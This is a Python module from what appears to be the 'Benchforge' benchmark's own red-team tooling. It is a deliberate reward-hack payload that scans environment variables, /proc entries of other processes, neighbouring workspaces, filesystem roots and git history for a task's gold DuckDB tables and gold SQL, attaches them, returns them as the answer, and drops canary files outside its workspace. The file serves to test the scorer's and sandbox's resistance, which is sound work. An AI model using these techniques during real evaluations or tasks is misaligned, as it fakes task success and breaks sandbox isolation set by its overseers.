"""Reward-hack payload: look for a task's gold from inside a candidate's dbt run (pasted into a
dbt Python model by ``evaluation/de/hacks.py``) or from inside an agent's sandbox (imported by
the command agents in ``../agents``), and use whatever turns up.

It attacks Benchforge's own scorer and sandbox on purpose: every use of it must score 0 and
leave nothing behind outside its workspace. Standard library only (plus DuckDB, through the
session a dbt Python model receives), and nothing here may raise: an attack that fails is a
result, not an error.

Where it looks (``strategies``):
- ``known``: paths handed over at apply time (a white-box attacker: the gold database and the
  gold repository where they really lie);
- ``env``: every environment variable whose value is a path;
- ``proc``: ``/proc/<pid>/environ``, ``cwd`` and ``cmdline`` of every process it can see (the
  scorer's own, when not in a pid namespace);
- ``siblings``: the folders around its own workspace (other trials' workspaces and builds);
- ``walk``: a bounded walk from likely roots (/work, /root, /home, /tmp, /data, ...);
- ``git``: every git repository found on the way, read with ``git show`` (the gold SQL is
  committed in the benchmark's own checkout).
"""

from __future__ import annotations

import builtins
import contextlib
import json
import os
import re
import subprocess
import threading
import time
from pathlib import Path

CANARY_PREFIX = "benchforge-canary-"
LOOT_FILE = "benchforge-loot.txt"
SKIP_TOP = {
    "/proc",
    "/sys",
    "/dev",
    "/run",
    "/boot",
    "/snap",
    "/usr",
    "/lib",
    "/lib64",
    "/bin",
    "/sbin",
    "/etc",
}
SKIP_NAMES = {
    ".venv",
    "site-packages",
    "node_modules",
    "__pycache__",
    ".mypy_cache",
    ".ruff_cache",
    ".pytest_cache",
    "dbt_packages",
}
DB_NAMES = ("gold.duckdb", "cand.duckdb", "cs.duckdb")
HACK_MARK = "benchforge_hack"  # what the catalogue's own attacks leave in their SQL and tables


def workspace() -> Path:
    db = os.environ.get("BENCHFORGE_DBT_DB")
    return Path(db).parent if db else Path.cwd()


def loot(*lines: str) -> None:
    """Notes what the attack saw, in its own workspace (read back by the catalogue's check)."""
    with contextlib.suppress(OSError), (workspace() / LOOT_FILE).open("a") as out:
        out.write("".join(line.rstrip() + "\n" for line in lines))


def drop_canaries(folders: list[str], hack: str) -> None:
    """Tries to write outside the workspace: nothing may appear there."""
    for folder in folders:
        path = Path(folder) / f"{CANARY_PREFIX}{hack}"
        try:
            path.write_text(f"written by reward hack {hack}\n")
            loot(f"WROTE {path}")
        except OSError as err:
            loot(f"write refused {path}: {err.strerror}")


# --- where to look ---------------------------------------------------------------------------


def env_paths() -> list[Path]:
    found = []
    for name, value in os.environ.items():
        for part in value.split(os.pathsep):
            if part.startswith("/") and part != "/" and _exists(part):
                found.append(Path(part))
                loot(f"env {name}={part}")
    return found


def proc_paths() -> list[Path]:
    found: list[Path] = []
    for entry in _listdir("/proc"):
        if not entry.isdigit():
            continue
        base = Path("/proc", entry)
        with contextlib.suppress(OSError):
            cwd = os.readlink(base / "cwd")
            found.append(Path(cwd))
            loot(f"proc {entry} cwd {cwd}")
        with contextlib.suppress(OSError):
            for item in (base / "environ").read_bytes().split(b"\0"):
                _, _, value = item.decode(errors="replace").partition("=")
                found += [Path(p) for p in value.split(os.pathsep) if p.startswith("/")]
        with contextlib.suppress(OSError):
            args = (base / "cmdline").read_bytes().split(b"\0")
            found += [Path(a.decode(errors="replace")) for a in args if a.startswith(b"/")]
    return [p for p in found if str(p) != "/" and _exists(str(p))]


def sibling_paths(levels: int = 3) -> list[Path]:
    here = workspace().resolve()
    return [here.parents[i] for i in range(min(levels, len(here.parents) - 1))]


def search_roots(config: dict) -> list[Path]:
    strategies = config.get("strategies", [])
    roots: list[Path] = []
    if "known" in strategies:
        roots += [Path(p) for p in config.get("known", [])]
    if "env" in strategies:
        roots += env_paths()
    if "proc" in strategies:
        roots += proc_paths()
    if "siblings" in strategies:
        roots += sibling_paths()
    if "walk" in strategies:
        roots += [Path(p) for p in config.get("roots", [])]
    return roots


class Found:
    """What a walk turned up: databases, dbt repositories, gold_v2 overlays, git folders."""

    def __init__(self) -> None:
        self.dbs: list[Path] = []
        self.repos: list[Path] = []
        self.git: list[Path] = []

    def to_json(self) -> dict:
        return {k: [str(p) for p in getattr(self, k)] for k in ("dbs", "repos", "git")}

    @classmethod
    def from_json(cls, data: dict) -> Found:
        found = cls()
        for key in ("dbs", "repos", "git"):
            setattr(found, key, [Path(p) for p in data.get(key, [])])
        return found


def walk(roots: list[Path], budget_s: float = 15.0, max_depth: int = 9) -> Found:
    found, seen = Found(), set()
    deadline = time.monotonic() + budget_s
    own = workspace().resolve()
    for root in roots:
        if root.is_file():
            _classify_file(root, found, own)
            continue
        for folder, dirs, files in os.walk(root, onerror=lambda _e: None):
            if time.monotonic() > deadline:
                loot(f"walk budget spent at {folder}")
                return found
            real = os.path.realpath(folder)
            depth = real.count("/")
            if real in seen or real in SKIP_TOP or depth > max_depth:
                dirs[:] = []
                continue
            seen.add(real)
            if ".git" in dirs:
                found.git.append(Path(folder, ".git"))
            if "dbt_project.yml" in files or Path(folder).name == "gold_v2":
                found.repos.append(Path(folder))
            dirs[:] = [d for d in dirs if d not in SKIP_NAMES and d != ".git"]
            for name in files:
                if name.endswith(".duckdb"):
                    _classify_file(Path(folder, name), found, own)
    return found


def _classify_file(path: Path, found: Found, own: Path) -> None:
    if path.suffix == ".duckdb" and own not in path.resolve().parents and path not in found.dbs:
        found.dbs.append(path)


_LOCK = threading.Lock()
_CACHE = "_benchforge_hack_search"  # on builtins: every Python model of the run shares it


def search(config: dict) -> Found:
    """One search per process (every Python model of a hack shares it)."""
    with _LOCK:
        cache = vars(builtins).get(_CACHE)
        if cache is None:
            roots = search_roots(config)
            loot(f"roots: {', '.join(map(str, roots))}")
            found = walk(roots, float(config.get("budget_s", 15)))
            cache = found.to_json()
            vars(builtins)[_CACHE] = cache
            loot(*(f"found {kind} {p}" for kind, paths in cache.items() for p in paths))
        return Found.from_json(cache)


# --- reading what was found ------------------------------------------------------------------


class Hit:
    """One file defining the model looked for, and what surrounds it."""

    def __init__(self, where: str, sql: str, variables: dict, project: str, title: str) -> None:
        self.where, self.sql, self.variables = where, sql, variables
        self.project, self.title = project, title  # dbt project name; task title (overlays)

    @property
    def overlay(self) -> bool:
        return "gold_v2" in self.where


def stolen_sql(found: Found, name: str, use_git: bool = True) -> list[Hit]:
    """Every file defining model ``name``: in found repositories and overlays, then in git."""
    hits: list[Hit] = []
    for repo in found.repos:
        for path in sorted(repo.rglob(f"{name}.sql")):
            with contextlib.suppress(OSError):
                hits.append(_file_hit(repo, path))
    for git_dir in found.git if use_git else []:
        hits += _from_git(git_dir, name)
    known = {}
    for hit in hits:
        known.update(hit.variables)
    for hit in hits:  # an overlay has no dbt_project.yml: take the variables seen elsewhere
        hit.variables = hit.variables or known
    return [h for h in hits if HACK_MARK not in h.sql]  # not another attack's output


def best(hits: list[Hit], project: str = "", title: str = "", evol: bool = False) -> list[Hit]:
    """Most likely gold first: the task's own overlay (de_evol), the same dbt project."""

    def rank(hit: Hit) -> tuple[bool, bool, bool]:
        own_overlay = evol and hit.overlay and (not title or hit.title == title)
        other_project = not hit.overlay and bool(project) and hit.project != project
        return (not own_overlay, other_project, hit.overlay)

    return sorted(hits, key=rank)


def _file_hit(repo: Path, path: Path) -> Hit:
    project_file = next(
        (f / "dbt_project.yml" for f in (repo, *repo.parents) if (f / "dbt_project.yml").is_file()),
        None,
    )
    config = read_text(project_file) if project_file else ""
    task = read_text(repo.parent / "task.yaml") if repo.name == "gold_v2" else ""
    return Hit(
        str(path),
        path.read_text(),
        _parse_vars(config),
        yaml_field(config, "name"),
        yaml_field(task, "title"),
    )


def _from_git(git_dir: Path, name: str) -> list[Hit]:
    listing = _git(git_dir, "ls-tree", "-r", "--name-only", "HEAD")
    hits = []
    for rel in listing.splitlines():
        if rel.endswith(f"/{name}.sql") and "/models/" in rel:
            project = rel.split("/models/")[0]
            task = ""
            if project.endswith("/gold_v2"):
                task = _git(git_dir, "show", f"HEAD:{project.removesuffix('/gold_v2')}/task.yaml")
                project = ""
            text = _git(git_dir, "show", f"HEAD:{rel}")
            config = _git(git_dir, "show", f"HEAD:{project}/dbt_project.yml") if project else ""
            hits.append(
                Hit(
                    f"git:{git_dir}:{rel}",
                    text,
                    _parse_vars(config),
                    yaml_field(config, "name"),
                    yaml_field(task, "title"),
                )
            )
    return hits


def read_text(path: Path) -> str:
    try:
        return path.read_text()
    except OSError:
        return ""


def yaml_field(yaml_text: str, key: str) -> str:
    match = re.search(rf"^{key}:\s*['\"]?(.*?)['\"]?\s*$", yaml_text, re.M)
    return match.group(1) if match else ""


def _git(git_dir: Path, *args: str) -> str:
    try:
        proc = subprocess.run(
            ["git", "-c", "safe.directory=*", f"--git-dir={git_dir}", *args],
            capture_output=True,
            text=True,
            timeout=20,
            check=False,
        )
    except (OSError, subprocess.TimeoutExpired):
        return ""
    return proc.stdout if proc.returncode == 0 else ""


def _parse_vars(text: str) -> dict:
    found: dict = {}
    in_vars = False
    for line in text.splitlines():
        if re.match(r"^vars:\s*$", line):
            in_vars = True
            continue
        if in_vars and re.match(r"^\S", line):
            break
        match = re.match(r"^\s+([A-Za-z_][\w]*):\s*['\"]?([^'\"#]*?)['\"]?\s*$", line)
        if in_vars and match:
            found[match.group(1)] = match.group(2)
    return found


def render(sql: str, variables: dict, relation_of) -> str:
    """The stolen model's Jinja, rendered by hand: ref, source, var; config dropped."""
    sql = re.sub(r"\{\{\s*config\(.*?\)\s*\}\}", "", sql, flags=re.S)
    sql = re.sub(
        r"\{\{\s*ref\(\s*['\"]([^'\"]+)['\"]\s*\)\s*\}\}",
        lambda m: relation_of(m.group(1), None),
        sql,
    )
    sql = re.sub(
        r"\{\{\s*source\(\s*['\"]([^'\"]+)['\"]\s*,\s*['\"]([^'\"]+)['\"]\s*\)\s*\}\}",
        lambda m: relation_of(m.group(2), m.group(1)),
        sql,
    )
    sql = re.sub(
        r"\{\{\s*var\(\s*['\"]([^'\"]+)['\"]\s*(?:,\s*['\"]?([^'\")]*)['\"]?)?\s*\)\s*\}\}",
        lambda m: str(variables.get(m.group(1), m.group(2) or "")),
        sql,
    )
    return sql


# --- as a dbt Python model -------------------------------------------------------------------


def run_model(session, config: dict):
    """The body of every hacked Python model: canaries, then gold tables, then gold SQL."""
    hack = config["hack"]
    drop_canaries(config.get("canaries", []), hack)
    found = search(config)
    modes = config.get("modes", ["db", "sql"])
    if "db" in modes:
        relation = _steal_table(session, found, config["schema"], config["alias"])
        if relation is not None:
            return relation
    if "sql" in modes:
        use_git = "git" in config.get("strategies", [])
        relation = _steal_query(session, found, config["name"], use_git, config.get("project", ""))
        if relation is not None:
            return relation
    loot(f"{config['name']}: nothing usable")
    return session.sql("select 'nothing found' as benchforge_hack")


def _steal_table(session, found: Found, schema: str, alias: str):
    """The table from the most promising database holding it: gold builds first, then the
    most complete other builds (other trials'); never a view, nor a table another hack left
    (marked with a ``benchforge_hack`` column)."""
    attached = [(db, _attach(session, db)) for db in found.dbs]
    usable = [(db, name) for db, name in attached if name is not None]
    for db, name in sorted(usable, key=lambda item: _promise(session, *item)):
        columns = [
            row[0]
            for row in session.execute(
                "select c.column_name from duckdb_columns() c join duckdb_tables() t "
                "using (database_name, schema_name, table_name) "
                "where database_name = ? and schema_name = ? and table_name = ?",
                [name, schema, alias],
            ).fetchall()
        ]
        if not columns or HACK_MARK in columns:
            continue
        relation = session.sql(f'select * from "{name}"."{schema}"."{alias}"')
        try:
            relation.limit(1).fetchall()
        except Exception as err:  # any failure is a result
            loot(f"table {schema}.{alias} of {db} unreadable: {str(err)[:160]}")
            continue
        loot(f"STOLE table {schema}.{alias} from {db}")
        return relation
    return None


def _promise(session, db: Path, name: str) -> tuple[int, int, str]:
    rows = session.execute(
        "select count(*) from duckdb_tables() where database_name = ?", [name]
    ).fetchone()
    tables = int(rows[0]) if rows else 0
    rank = DB_NAMES.index(db.name) if db.name in DB_NAMES else len(DB_NAMES)
    return (min(rank, 1), -tables, str(db))


def _attach(session, db: Path) -> str | None:
    with _LOCK:
        for name, path in session.execute(
            "select database_name, path from duckdb_databases()"
        ).fetchall():
            if path and os.path.realpath(path) == os.path.realpath(db):
                return str(name)
        name = "benchforge_stolen_" + re.sub(r"\W", "_", str(db))[-40:]
        try:
            session.execute(f"ATTACH '{db}' AS \"{name}\" (READ_ONLY)")
        except Exception as err:  # any failure is a result
            loot(f"attach refused {db}: {str(err).splitlines()[0][:160]}")
            return None
        loot(f"attached {db}")
        return name


def _steal_query(session, found: Found, name: str, use_git: bool, project: str):
    database = session.execute("select current_database()").fetchone()[0]

    def relation_of(table: str, schema_hint: str | None) -> str:
        rows = session.execute(
            "select schema_name from duckdb_tables() where database_name = ? and table_name = ?"
            " order by schema_name = ? desc",
            [database, table, schema_hint or ""],
        ).fetchall()
        schema = rows[0][0] if rows else (schema_hint or "main")
        return f'"{database}"."{schema}"."{table}"'

    for hit in best(stolen_sql(found, name, use_git), project):
        try:
            relation = session.sql(render(hit.sql, hit.variables, relation_of))
            relation.limit(1).fetchall()
        except Exception as err:
            loot(f"stolen SQL of {name} from {hit.where} did not run: {str(err)[:160]}")
            continue
        loot(f"STOLE sql of {name} from {hit.where}")
        return relation
    return None


def _exists(path: str) -> bool:
    try:
        return os.path.exists(path)
    except (OSError, ValueError):
        return False


def _listdir(path: str) -> list[str]:
    try:
        return os.listdir(path)
    except OSError:
        return []


def config_json(config: dict) -> str:
    return json.dumps(config, sort_keys=True)
